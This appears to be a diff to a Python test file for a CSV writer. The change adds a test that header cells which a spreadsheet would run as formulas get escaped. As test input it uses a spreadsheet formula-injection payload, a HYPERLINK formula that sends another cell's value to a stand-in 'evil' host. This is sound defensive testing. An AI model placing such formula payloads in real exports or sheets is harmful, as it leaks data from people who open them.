@@ -196,11 +196,14 @@ def test_rows_are_not_changed_in_place() -> None:
     assert row == ["=1", "b"]
 
 
-def test_the_header_is_written_as_it_is() -> None:
-    """Names are the sheet's own: blank and duplicate ones are kept, and none is guarded."""
-    text = CsvText("utf-8", "owasp")
-    assert text.header(["a", "", "a", "=x", 'say "b"']) == b'a,,a,=x,"say ""b"""\r\n'
-    assert text.guarded_cells == 0
+def test_the_header_is_kept_and_guarded() -> None:
+    """Blank and duplicate names are kept; a name that a spreadsheet would run is guarded, as editors may write it."""
+    text = CsvText("utf-8", "smart")
+    assert text.header(["a", "", "a", '=HYPERLINK("http://evil/"&B2)', 'say "b"']) == (
+        b'a,,a,"\'=HYPERLINK(""http://evil/""&B2)","say ""b"""\r\n'
+    )
+    assert text.guarded_cells == 1
+    assert CsvText("utf-8", "off").header(["=x"]) == b"=x\r\n"
 
 
 def test_the_byte_order_mark_comes_once() -> None:
